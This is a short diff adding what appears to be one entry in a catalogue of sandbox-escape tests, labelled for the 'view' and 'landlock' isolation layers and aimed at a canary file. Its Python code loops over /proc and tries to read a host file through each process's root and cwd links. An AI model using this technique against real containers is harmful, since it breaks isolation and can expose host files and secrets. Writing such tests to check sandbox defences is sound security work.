@@ -1,0 +1,16 @@
+# /// attack
+# catalogue = "reading: /proc of the parent"
+# layers = ["view", "landlock"]
+# aim = "canary"
+# ///
+# Goes to the host's files through the root and working directories of other processes.
+
+# %%
+import os
+
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for door in ("root", "cwd"):
+        try:
+            print(open(f"/proc/{pid}/{door}{TARGET['host']}").read())
+        except OSError:
+            pass
